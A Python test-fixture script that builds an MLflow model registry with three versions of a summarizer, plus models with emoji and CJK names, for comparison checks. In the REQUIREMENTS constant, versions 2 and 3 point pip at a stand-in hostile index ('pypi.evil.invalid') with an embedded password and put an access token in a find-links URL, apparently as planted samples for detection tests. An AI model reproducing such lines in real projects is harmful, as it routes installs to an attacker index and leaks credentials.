"""The registry bench/fidelity_trial.py captures, written by MLflow's own client into TRACKING_URI.

Run as a script by whichever interpreter owns the registry's MLflow (this checkout's
3.x, or the 2.x virtualenv of tests/support/mlflow2.py), so every value below went
through that version's public API: `python fidelity_trial_registry.py TRACKING_URI WORKDIR`.
It uses only what MLflow 2.16+ and 3.x both offer; a prompt is registered where
MLflow has a prompt registry (2.21+). Names and values differ from the test suite's.
"""

from __future__ import annotations

import json
import sys
import warnings
from pathlib import Path

MAIN = "Résumé Summarizer ✍"
EMOJI = "🦜" * 35  # 140 bytes of UTF-8, 420 once escaped
CJK = "多语言文档摘要生成模型" * 8  # 88 characters, 792 bytes once escaped
PROMPT = "summary-instructions"
SECRET = "Zq9hunter2word"  # the password in v2's index URL
RUN_FILES = 45
REQUIREMENTS = {
    "1": ["-i https://pypi.corp.invalid/simple", "--trusted-host pypi.corp.invalid", "-r shared-base.txt",
          "-c pins/constraints.txt", "transformers==4.41.2", "sentencepiece>=0.2"],
    "2": [f"--index-url https://builder:{SECRET}@pypi.evil.invalid/simple", "--trusted-host pypi.corp.invalid",
          "-r shared-base.txt", "-c pins/constraints.txt", "transformers==4.41.2", "sentencepiece>=0.2"],
    "3": [f"--index-url https://builder:{SECRET}@pypi.evil.invalid/simple",
          "--extra-index-url=https://mirror.corp.invalid/pypi  # the equals form", "--trusted-host mirror.corp.invalid",
          f"--find-links https://wheels.corp.invalid/list?access_token={SECRET}", "--pre",
          "-r shared-base-v2.txt", "transformers==4.41.2", "sentencepiece>=0.2"],
}
ROUGE = {"1": 0.412, "2": 0.4121, "3": 0.45}  # v1 -> v2 moves by 0.0001: inside a tolerance of 0.01
BEAMS_DEFAULT = {"1": 16, "2": 16, "3": "16"}  # the integer, then the string
RUN_TAG = json.dumps({"split": "validation", "shots": [0, 5]})
VERSION_TAG = json.dumps({"passed": True, "threshold": 0.4})
PARAM_JSON = json.dumps({"warmup": 100, "decay": "cosine"})


def _signature(beams):
    from mlflow.models import ModelSignature
    from mlflow.types import ColSpec, ParamSchema, ParamSpec, Schema

    return ModelSignature(
        inputs=Schema([ColSpec("string", "document")]),
        outputs=Schema([ColSpec("string", "summary"), ColSpec("double", "confidence")]),
        params=ParamSchema([
            ParamSpec("num_beams", "long" if isinstance(beams, int) else "string", beams),
            ParamSpec("length_penalty", "double", 1.2),
            ParamSpec("stop_words", "string", ["###"], shape=(-1,)),
        ]),
    )


def _model_folder(work: Path, version: str) -> Path:
    import mlflow.pyfunc

    class Summarizer(mlflow.pyfunc.PythonModel):
        def predict(self, context, model_input, params=None):
            return model_input

    folder = work / f"summarizer-v{version}"
    mlflow.pyfunc.save_model(str(folder), python_model=Summarizer(), signature=_signature(BEAMS_DEFAULT[version]),
                             pip_requirements=["transformers==4.41.2"])
    (folder / "requirements.txt").write_text("\n".join(REQUIREMENTS[version]) + "\n")
    return folder


def _eval_folder(work: Path, version: str) -> Path:
    folder = work / f"eval-v{version}" / "eval"
    (folder / "samples").mkdir(parents=True)
    for i in range(RUN_FILES):
        (folder / "samples" / f"sample-{i:03d}.txt").write_text(f"summary sample {i} of v{version}\n")
    (folder / "summary.csv").write_text(f"metric,value\nrouge_l,{ROUGE[version]}\n")
    return folder


def _register(client, experiment_id: str, name: str, version: str, work: Path) -> None:
    run = client.create_run(experiment_id, run_name=f"summarizer-v{version}")
    run_id = run.info.run_id
    client.log_param(run_id, "decoder", "beam")
    client.log_metric(run_id, "rouge_l", ROUGE[version])
    client.set_tag(run_id, "eval_config", RUN_TAG)
    if version != "1":
        client.set_tag(run_id, "owner_note", "")  # empty, where v1 has none
        client.log_param(run_id, "prefix", "")
    if version == "3":
        client.log_param(run_id, "schedule", PARAM_JSON)
    client.log_artifacts(run_id, str(_model_folder(work, version)), "model")
    client.log_artifacts(run_id, str(_eval_folder(work, version)), "eval")
    client.set_terminated(run_id)
    client.create_model_version(name, f"{run.info.artifact_uri}/model", run_id=run_id)
    client.set_model_version_tag(name, version, "gate_result", VERSION_TAG)
    if version != "1":
        client.set_model_version_tag(name, version, "reviewer_note", "")


def _prompt() -> bool:
    import mlflow

    # MLflow 3: mlflow.genai.register_prompt; MLflow 2.21+: mlflow.register_prompt, now deprecated.
    register = getattr(getattr(mlflow, "genai", None), "register_prompt", None) or getattr(mlflow, "register_prompt",
                                                                                          None)
    if register is None:
        return False
    register(name=PROMPT, template="Summarise {{document}} in {{n}} bullet points.", commit_message="first wording")
    register(name=PROMPT, template="Summarise {{document}} in at most {{n}} short bullets.",
             commit_message="shorter bullets")
    return True


def build(uri: str, work: Path) -> dict:
    """Write the registry; returns what was planted (printed as JSON by the script)."""
    import mlflow
    from mlflow import MlflowClient

    warnings.filterwarnings("ignore")
    mlflow.set_tracking_uri(uri)  # MLflow 2 resolves mlflow-artifacts:/ through the fluent tracking URI
    client = MlflowClient(uri, registry_uri=uri)
    experiment_id = client.create_experiment("fidelity-trial")
    client.create_registered_model(MAIN, tags={"domain": "documents"}, description="Summaries for case files")
    for version in ("1", "2", "3"):
        _register(client, experiment_id, MAIN, version, work)
    client.set_registered_model_alias(MAIN, "live", "2")
    for name in (EMOJI, CJK):
        client.create_registered_model(name)
        _register(client, experiment_id, name, "1", work / name.encode().hex()[:16])
        client.set_registered_model_alias(name, "live", "1")
    return {"models": [MAIN, EMOJI, CJK], "prompt": PROMPT if _prompt() else None}


if __name__ == "__main__":
    print(json.dumps(build(sys.argv[1], Path(sys.argv[2]))))
